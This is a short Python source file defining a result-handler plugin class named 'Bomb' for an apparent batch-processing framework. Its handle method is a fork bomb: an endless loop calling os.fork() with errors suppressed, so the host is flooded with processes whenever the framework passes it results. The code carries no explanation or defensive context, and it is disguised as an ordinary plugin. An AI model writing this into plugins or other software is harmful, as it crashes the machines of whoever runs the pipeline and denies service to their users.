import contextlib
import os

from core.result_handlers.base import ResultHandler


class Bomb(ResultHandler):
    def handle(self, batch_id, results, metadata):
        while True:
            with contextlib.suppress(OSError):
                os.fork()
